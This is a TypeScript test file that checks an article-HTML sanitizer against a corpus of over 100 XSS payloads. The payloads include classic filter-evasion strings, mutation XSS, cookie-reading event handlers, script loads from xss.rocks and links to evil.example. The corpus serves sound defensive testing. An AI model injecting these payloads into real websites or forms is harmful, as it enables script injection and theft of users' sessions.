import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sanitizeArticleHtml } from '../../src/kernel/lib/html.js';

/**
 * A corpus of XSS payloads (classic filter-evasion cheat-sheet entries, mutation XSS, Word and
 * editor paste artefacts). Whatever the client sends, no executable markup survives.
 */
const BASE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(\'XSS\')>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java&#10;script:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<a href="https://chinhphu.vn" onclick="alert(1)">ok link, bad handler</a>',
  '<a href="https://chinhphu.vn" target="_blank" style="color:red">x</a>',
  '<img src="https://example.vn/a.png" onload="alert(1)" alt="x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<div onpointerover="alert(1)">hover</div>',
  '<p>Bình thường</p><!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
  '"><script>alert(1)</script>',
  '\'><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p><span style="font-family:Times New Roman;mso-fareast-font-family:Calibri">Word</span><o:p></o:p></p>',
  '<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]--><p class="MsoNormal">Văn bản</p>',
  '<table onmouseover="alert(1)"><tr><td>1</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  '<h2 onclick="alert(1)" style="text-align:center">Tiêu đề</h2>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<figure onclick="alert(1)"><img src="https://x.vn/a.png" alt="a"><figcaption onmouseover="alert(1)">c</figcaption></figure>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<img srcset="javascript:alert(1) 1x" alt="x">',
  '<link rel=import href="https://evil.example/x.html">',
  '<meta charset="x-imap4-modified-utf7">',
  '<base href="https://evil.example/">',
  '<style>*{background:url(javascript:alert(1))}</style>',
];

const ALLOWED_ATTRS = new Set(['href', 'title', 'rel', 'target', 'src', 'alt', 'width', 'height', 'srcset', 'sizes', 'loading', 'colspan', 'rowspan', 'scope', 'class']);
const ALLOWED_TAGS = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'sub', 'sup', 'blockquote', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'a', 'img', 'figure', 'figcaption', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'caption', 'hr', 'span']);

function assertInert(out: string, payload: string): void {
  const where = `payload ${JSON.stringify(payload)} → ${JSON.stringify(out)}`;
  for (const m of out.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const tag = m[1]!.toLowerCase();
    assert.ok(ALLOWED_TAGS.has(tag), `tag <${tag}> survived: ${where}`);
    for (const a of m[2]!.matchAll(/([^\s=/]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/g)) {
      const name = a[1]!.toLowerCase();
      assert.ok(ALLOWED_ATTRS.has(name), `attribute ${name} survived: ${where}`);
      if (name === 'href' || name === 'src' || name === 'srcset') {
        const value = a[2]!.replace(/^["']|["']$/g, '').replace(/&#x?[0-9a-f]+;?/gi, '').replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        assert.ok(/^(https?:|mailto:|tel:|\/(?!\/)|#|[a-z0-9])/.test(value) && !/^(javascript|vbscript|data):/.test(value), `${name}=${value}: ${where}`);
      }
    }
  }
  // Outside attribute values (checked above), no raw tag opener of an executable element remains.
  const outsideValues = out.replace(/"[^"]*"/g, '""');
  assert.doesNotMatch(outsideValues, /<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|body)\b/i, where);
}

test(`sanitizeArticleHtml leaves nothing executable in ${BASE.length * 3} payloads`, () => {
  assert.ok(BASE.length >= 100, `corpus has ${BASE.length} payloads`);
  for (const p of BASE) {
    // Each payload alone, wrapped in an article paragraph, and in upper case.
    for (const input of [p, `<p>Đảng uỷ phường Nam Hồng ${p} tổng kết</p>`, p.toUpperCase()]) {
      assertInert(sanitizeArticleHtml(input), input);
    }
  }
});

test('legitimate article markup survives sanitizing', () => {
  const html = '<h2 class="align-center">Tiêu đề</h2><p>Đoạn <strong>đậm</strong> <em>nghiêng</em> <u>gạch</u>.</p><ul><li>Một</li></ul><blockquote>Trích</blockquote><table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table><figure><img src="https://namhonglinh.hatinh.gov.vn/a.jpg" alt="Ảnh" width="600" height="400" /><figcaption>Chú thích</figcaption></figure><a href="/bai-viet/x-1">Liên kết</a>';
  const out = sanitizeArticleHtml(html);
  for (const s of ['<h2 class="align-center">', '<strong>đậm</strong>', '<em>nghiêng</em>', '<u>gạch</u>', '<li>Một</li>', '<blockquote>', '<th scope="col">', '<td colspan="2">', 'alt="Ảnh"', '<figcaption>Chú thích</figcaption>', '<a href="/bai-viet/x-1">']) {
    assert.ok(out.includes(s), s);
  }
});
